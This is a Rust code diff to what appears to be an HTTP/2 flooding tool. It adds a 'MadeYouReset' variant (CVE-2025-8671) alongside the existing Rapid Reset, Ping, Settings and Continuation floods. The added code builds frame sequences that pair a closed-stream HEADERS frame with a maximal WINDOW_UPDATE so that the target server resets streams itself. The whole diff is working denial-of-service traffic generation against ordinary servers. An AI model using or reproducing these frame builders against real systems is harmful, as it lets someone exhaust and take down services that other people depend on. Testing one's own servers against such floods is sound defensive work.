@@ -28,6 +28,8 @@ pub const END_HEADERS: u8 = 4;
 pub enum Flood {
     /// Calls that are reset at once (CVE-2023-44487).
     RapidReset,
+    /// Calls that the server has to reset itself, for a window over its limit (CVE-2025-8671).
+    MadeYouReset,
     /// Pings that want an answer.
     Ping,
     /// Settings that want an acknowledgement.
@@ -37,7 +39,8 @@ pub enum Flood {
 }
 
 impl Flood {
-    pub const ALL: [Self; 4] = [Self::RapidReset, Self::Ping, Self::Settings, Self::Continuation];
+    pub const ALL: [Self; 5] =
+        [Self::RapidReset, Self::MadeYouReset, Self::Ping, Self::Settings, Self::Continuation];
 
     /// Returns the frames of one step. `head` is that of a request, as HPACK.
     fn frames(self, step: u32, head: &[u8]) -> Vec<u8> {
@@ -46,6 +49,10 @@ impl Flood {
             Self::RapidReset => {
                 let head = frame(HEADERS, END_STREAM | END_HEADERS, stream, head);
                 [head, reset(stream)].concat()
+            }
+            Self::MadeYouReset => {
+                let head = frame(HEADERS, END_STREAM | END_HEADERS, stream, head);
+                [head, frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())].concat()
             }
             Self::Ping => frame(PING, 0, 0, &[7; 8]),
             // the largest window there is: every change is applied to every stream
